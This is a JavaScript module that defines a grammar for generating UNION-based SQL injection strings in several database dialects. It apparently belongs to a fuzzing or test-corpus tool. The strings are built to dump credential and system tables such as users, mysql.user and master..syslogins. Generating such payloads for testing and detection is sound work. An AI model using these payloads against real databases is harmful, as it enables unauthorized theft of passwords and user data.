import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** UNION written by hand to read a table: names of columns, casts, aggregates, a FROM of its own. */
export const unionDump = sqlGenerator({
  name: 'union-dump',
  places: WHERE_PLACES,
  rules: {
    start: [
      '{open} union select {fields} from {from} {comment}',
      '{open} UNION SELECT {fields} FROM {from}{tail} {comment}',
      '{open} UNION ALL (SELECT {fields} FROM {from}) {comment}',
      '{open} and 1=0 union select {fields} from {from}{comment}',
      '{open} union select {fields} from {from} where {quote}1{quote}={quote}1',
    ],
    fields: [
      '{field}',
      '{field},{field}',
      '{field},{field},{field}',
      '{digit},{field},{digit}',
      '{field},{digit},{field},{digit}',
      'null,{field},null',
      '*',
    ],
    field: ['name', 'password', 'email', '{column}', '{all}', '{joined}', 'id'],
    from: ['users', '{table}', '{table} u', '{table} AS t'],
    tail: ['', ' WHERE id={digit}', ' LIMIT 1', " WHERE role='admin'", ' ORDER BY 1'],
  },
  byDialect: {
    mysql: {
      from: ['users', '{table}', 'information_schema.tables', '{table} t', 'information_schema.columns', 'mysql.user'],
    },
    postgres: {
      field: ['name', 'password', '{column}', '{joined}', 'id::text', 'CAST(id AS varchar)', 'null', '{all}'],
      from: ['users', '{table}', '(select * from users) s'],
    },
    sqlite: {
      start: [
        '{open} union select {fields} from {from} {comment}',
        '{open} UNION ALL SELECT {fields} FROM {from}{tail}{comment}',
        '{open} and 1=0 union select {fields} from {from}{comment}',
        '{open} union select * from (select {fields} from {from}) {comment}',
      ],
      from: ['users', '{table}', '{table} NATURAL JOIN users'],
    },
    mssql: {
      tail: ['', ' WHERE id={digit}', ' FOR XML PATH'],
      from: ['users', '{table}', 'sysobjects', 'master..syslogins'],
    },
    oracle: { tail: ['', ' WHERE ROWNUM<={digit}'], from: ['users', '{table}', 'all_tables', 'all_users'] },
  },
});
